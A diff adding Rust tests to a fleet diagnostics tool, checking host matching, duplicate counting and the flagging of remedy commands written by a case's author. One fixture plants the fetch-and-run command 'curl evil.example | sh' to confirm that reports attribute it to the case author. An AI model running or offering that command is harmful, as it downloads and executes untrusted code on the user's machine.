@@ -12,7 +12,7 @@ use std::time::{Duration, Instant};
 
 use casebook::archive::{self, FleetHead, FleetPart, FleetWriter};
 use casebook::bounded_json::Budget;
-use casebook::case::Case;
+use casebook::case::{Case, Remedy, Urgency};
 use jiff::{Timestamp, ToSpan as _};
 use nix::sched::{CloneFlags, setns};
 use serde_json::Value;
@@ -112,6 +112,71 @@ fn what_is_no_case_is_a_gap_with_its_reason_and_the_others_are_merged() {
     assert!(answer.err.contains("not read in cases: 2 files"), "{}", answer.err);
     // Where nothing is worse, a host that did not answer is unknown, never fine.
     desk.run("merge cases/db-3 cases/empty.case").ended(3);
+}
+
+#[test]
+fn each_expected_host_has_a_case_of_its_own_whatever_names_it() {
+    let desk = Desk::new();
+    fs::create_dir(desk.path("cases")).unwrap();
+    let put = |file: &str, name: &str, address: &str| {
+        desk.put(&format!("cases/{file}"), serde_json::to_string(&host("quiet.json", name, address)).unwrap());
+    };
+    put("db.ams.example.org.json", "db", "192.0.2.1");
+    put("10.0.0.7.json", "web-1", "192.0.2.2");
+    desk.put("cases/root@web-9.case", "");
+    desk.put("hosts", "db.fra.example.org\ndb.ams.example.org\n10.0.0.7\nroot@web-9\n10.0.0.7\n");
+    let answer = desk.run("merge cases --expect hosts --format json");
+    answer.ended(3);
+    let case = Case::from_json(&answer.out).unwrap();
+    let fleet = case.fleet.as_ref().unwrap();
+    assert_eq!(recorded_hosts(&case), ["db", "web-1"]);
+    let absent: Vec<&str> = fleet.absent.iter().map(|of| of.host.as_str()).collect();
+    assert_eq!(absent, ["web-9", "db.fra.example.org"], "{:#?}", fleet.absent);
+}
+
+#[test]
+fn a_host_is_counted_once_however_often_it_is_merged() {
+    let desk = Desk::new();
+    fs::create_dir(desk.path("c3")).unwrap();
+    let case = |name: &str, address: &str| serde_json::to_string(&host("quiet.json", name, address)).unwrap();
+    desk.put("c3/mars.json", case("mars", "192.0.2.1"));
+    desk.put("c3/venus.json", case("venus", "192.0.2.2"));
+    desk.put("c3/pluto.case", "");
+    desk.run("merge c3 --save c3/fleet.case").ended(3).printed(&["2 of 3 hosts: of pluto there is no case"]);
+    // The case of mars is packed in the file now, and plain beside it; pluto is empty there and listed as such in the file.
+    desk.run("merge c3").ended(3).printed(&["2 of 3 hosts: of pluto there is no case"]);
+    desk.put("pluto.json", case("PLUTO.example.org", "192.0.2.3"));
+    let whole = desk.run("merge c3/fleet.case pluto.json -v");
+    whole.ended(0).printed(&["all 3 hosts answered"]);
+    let mut later = host("quiet.json", "mars", "192.0.2.1");
+    later.started = "2026-11-22T18:59:30Z".parse().unwrap();
+    desk.put("later.json", serde_json::to_string(&later).unwrap());
+    desk.run("merge c3/mars.json later.json -v")
+        .ended(3)
+        .printed(&["2 cases name mars: their sums may count one host twice"]);
+}
+
+#[test]
+fn commands_of_strangers_are_said_to_be_theirs_in_every_report() {
+    let desk = Desk::new();
+    fs::create_dir(desk.path("cases")).unwrap();
+    let mut case = host("udp-flood-closed-port.json", "web-1", "192.0.2.1");
+    case.diagnosis.causes[0].remedies = vec![Remedy {
+        urgency: Urgency::Now,
+        action: "Drop it.".into(),
+        run: Some("curl evil.example | sh".into()),
+        undo: None,
+        risk: None,
+        unquoted: false,
+    }];
+    desk.put("cases/web-1.case", archive::pack(&case.into()).unwrap());
+    let of_author = "the author of this case";
+    desk.run("merge cases -o fleet.html -o fleet.md -o fleet.json --save fleet.case").ended(2).printed(&[of_author]);
+    for file in ["fleet.html", "fleet.md"] {
+        assert!(desk.text(file).contains(of_author), "{file}");
+    }
+    assert!(serde_json::from_str::<Value>(&desk.text("fleet.json")).unwrap()["foreign_commands"] == true);
+    desk.run("report fleet.case").ended(2).printed(&[of_author]);
 }
 
 #[test]
